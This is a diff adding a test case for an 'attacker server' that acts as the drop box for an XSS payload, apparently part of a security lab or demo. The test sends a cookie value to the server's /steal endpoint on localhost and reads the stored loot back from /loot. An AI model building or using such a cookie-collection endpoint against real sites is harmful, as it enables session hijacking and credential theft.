@@ -128,4 +128,13 @@ describe('GET /steal on the attacker server (the XSS payload’s drop box)', () 
     expect(String(loot.claims.passwordHash)).toMatch(/^scrypt\$/);
     expect(loot.claims.exp).toBeUndefined();
   });
+
+  it('keeps a cookie string with broken percent-encoding as it came, instead of failing', async () => {
+    const id = 'cd'.repeat(16);
+    const base = attacker.origin.replace('localhost', '127.0.0.1');
+    expect((await fetch(`${base}/steal?id=${id}&c=${encodeURIComponent('token=%E0%A4%A')}`)).status).toBe(204);
+    const { loot } = (await (await fetch(`${base}/loot?id=${id}`)).json()) as { loot: { token: string; claims: unknown } };
+    expect(loot.token).toBe('%E0%A4%A');
+    expect(loot.claims).toBeNull();
+  });
 });
